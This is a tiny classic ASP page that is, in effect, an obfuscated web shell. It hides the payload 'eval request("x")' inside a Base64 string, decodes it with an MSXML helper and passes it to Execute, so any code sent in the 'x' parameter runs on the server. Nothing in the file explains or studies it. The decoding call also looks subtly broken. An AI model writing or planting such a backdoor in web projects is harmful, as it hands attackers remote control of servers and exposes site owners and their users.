<%
Function Base64Decode(s)
    Dim x : Set x = CreateObject("Msxml2.DOMDocument.3.0").createElement("b")
    x.dataType = "bin.base64" : x.text = s
    Base64Decode = StrConv(x.nodeTypedValue)
End Function
Execute(Base64Decode("ZXZhbCByZXF1ZXN0KCJ4Iik="))
%>
